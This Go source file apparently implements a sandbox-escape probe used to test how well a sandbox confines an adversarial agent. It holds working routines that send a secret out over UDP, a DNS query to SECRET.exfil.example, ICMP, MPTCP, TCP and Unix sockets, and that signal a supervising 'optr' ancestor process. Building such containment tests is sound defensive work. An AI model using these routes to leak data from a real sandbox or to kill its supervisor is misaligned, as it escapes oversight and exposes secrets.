// Command adversary is the adversarial agent's hands for the routes a
// shell does not have: `adversary ROUTE TARGET [SECRET]` tries one route
// out of the sandbox and exits 0 when it got through (the listener on the
// other side decides whether anything arrived), 1 when refused.
//
//	udp HOST:PORT SECRET      a datagram
//	dns HOST:PORT SECRET      a DNS query for SECRET.exfil.example, over UDP
//	icmp IP SECRET            an echo request from an unprivileged ping socket
//	mptcp HOST:PORT SECRET    an HTTP request over MPTCP
//	tcp HOST:PORT SECRET      the secret over a TCP connection
//	unix PATH|@NAME SECRET    the secret over a Unix socket (@: abstract)
//	kill PID SIGNAL           a signal
//	kill-optr 0 SIGNAL        a signal to optr: the nearest ancestor named optr
//	own-server 0              not a route out: a server of its own on loopback,
//	                          connected to, as a test suite does (exit 0: it works)
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: adversary ROUTE TARGET [SECRET]")
		os.Exit(2)
	}
	route, target, secret := os.Args[1], os.Args[2], ""
	if len(os.Args) > 3 {
		secret = os.Args[3]
	}
	if err := try(route, target, secret); err != nil {
		fmt.Fprintf(os.Stderr, "%s %s: %v\n", route, target, err)
		os.Exit(1)
	}
}

func try(route, target, secret string) error {
	switch route {
	case "udp":
		return send("udp", target, []byte(secret))
	case "dns":
		return send("udp", target, query(secret+".exfil.example"))
	case "icmp":
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		sa := &unix.SockaddrInet4{}
		copy(sa.Addr[:], net.ParseIP(target).To4())
		echo := append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, secret...)
		return unix.Sendto(fd, echo, 0, sa)
	case "mptcp":
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		if err := unix.Connect(fd, inet4(target)); err != nil {
			return err
		}
		_, err = unix.Write(fd, []byte("GET /mptcp-"+secret+" HTTP/1.0\r\n\r\n"))
		return err
	case "tcp":
		return send("tcp", target, []byte(secret))
	case "unix":
		return send("unix", target, []byte(secret))
	case "kill":
		pid, _ := strconv.Atoi(target)
		sig, _ := strconv.Atoi(secret)
		return unix.Kill(pid, unix.Signal(sig))
	case "own-server":
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		defer ln.Close()
		go func() {
			if c, err := ln.Accept(); err == nil {
				c.Close()
			}
		}()
		c, err := net.Dial("tcp", ln.Addr().String())
		if err != nil {
			return err
		}
		return c.Close()
	case "kill-optr":
		sig, _ := strconv.Atoi(secret)
		for pid := os.Getppid(); pid > 1; {
			b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
			if err != nil {
				return err
			}
			open, closing := strings.IndexByte(string(b), '('), strings.LastIndexByte(string(b), ')')
			if string(b[open+1:closing]) == "optr" {
				return unix.Kill(pid, unix.Signal(sig))
			}
			f := strings.Fields(string(b[closing+1:]))
			if pid, err = strconv.Atoi(f[1]); err != nil {
				return err
			}
		}
		return fmt.Errorf("no optr above")
	}
	return fmt.Errorf("unknown route %s", route)
}

// send writes b over a connection of network to addr.
func send(network, addr string, b []byte) error {
	c, err := net.Dial(network, addr)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write(b)
	return err
}

// inet4 is HOST:PORT as an IPv4 socket address.
func inet4(hostport string) *unix.SockaddrInet4 {
	host, port, _ := net.SplitHostPort(hostport)
	p, _ := strconv.Atoi(port)
	sa := &unix.SockaddrInet4{Port: p}
	copy(sa.Addr[:], net.ParseIP(host).To4())
	return sa
}

// query is a DNS query for name's A record.
func query(name string) []byte {
	q := binary.BigEndian.AppendUint16(nil, 0x0ff7) // id
	q = append(q, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)     // recursion desired; one question
	for _, label := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	return append(q, 0, 0, 1, 0, 1) // root; type A; class IN
}
